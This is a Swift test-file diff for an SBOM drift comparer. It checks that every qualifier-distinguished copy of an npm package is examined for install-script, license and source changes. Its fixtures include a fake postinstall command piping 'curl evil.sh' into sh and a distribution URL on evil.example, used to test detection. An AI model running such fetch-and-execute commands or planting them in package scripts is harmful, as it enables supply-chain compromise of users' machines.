@@ -208,6 +208,40 @@ struct NpmEdits {
         }
     }
 
+    /// Packages are paired by purl without qualifiers, so one name and version may be several
+    /// components: a `?x=1` copy's install script, license and source were not looked at, only the
+    /// first copy's (found by helper-106). Every copy counts.
+    @Test func everyCopyOfAPairedPackageIsCompared() throws {
+        let dir = try scratchDirectory()
+        defer { try? FileManager.default.removeItem(at: dir) }
+        let h = String(repeating: "a", count: 64)
+        func component(_ name: String, _ version: String, _ qualifiers: String = "", license: String? = nil, script: String? = nil, url: String? = nil) -> String {
+            var c = #"{"type":"library","name":"\#(name)","version":"\#(version)","purl":"pkg:npm/\#(name)@\#(version)\#(qualifiers)","hashes":[{"alg":"SHA-256","content":"\#(h)"}]"#
+            if let license { c += #","licenses":[{"license":{"id":"\#(license)"}}]"# }
+            if let script { c += #","properties":[{"name":"provenant:install-script","value":"\#(script)"}]"# }
+            if let url { c += #","externalReferences":[{"type":"distribution","url":"\#(url)"}]"# }
+            return c + "}"
+        }
+        func side(_ name: String, _ components: [String]) throws -> Inventory {
+            let path = dir.appendingPathComponent(name).path
+            try #"{"bomFormat":"CycloneDX","specVersion":"1.5","components":[\#(components.joined(separator: ","))]}"#.write(toFile: path, atomically: true, encoding: .utf8)
+            return try #require(try DriftInput.read(path))
+        }
+        let base = try side("base.json", [component("foo", "1.0.0", license: "MIT"), component("bar", "1.0.0", url: "https://registry.npmjs.org/bar/-/bar-1.0.0.tgz")])
+        let cur = try side("cur.json", [
+            component("foo", "1.0.0", license: "MIT"),
+            component("foo", "1.0.0", "?x=1", license: "GPL-3.0-only", script: "postinstall: curl evil.sh | sh"),
+            component("bar", "1.0.1", url: "https://registry.npmjs.org/bar/-/bar-1.0.1.tgz"),
+            component("bar", "1.0.1", "?y=1", script: "install: evil", url: "https://evil.example/bar-1.0.1.tgz"),
+            component("new", "1.0.0"), component("new", "1.0.0", "?z=1", script: "postinstall: steal"),
+        ])
+        let found = pairs(compare(base, cur).findings)
+        #expect(found.isSuperset(of: ["drift:install-script pkg:npm/foo@1.0.0", "drift:license-changed pkg:npm/foo@1.0.0",
+                                      "drift:install-script pkg:npm/bar@1.0.1", "drift:source-changed pkg:npm/bar@1.0.1",
+                                      "drift:install-script pkg:npm/new@1.0.0"]), "\(found)")
+        #expect(compare(cur, cur).findings.isEmpty)
+    }
+
     /// The baseline as CycloneDX and the current side as SPDX (and as Provenant's inventory) give the
     /// same findings as the two lockfiles: every fact diff needs survives the round trip.
     @Test func sbomsOfDifferentFormatsCompareByPurl() async throws {
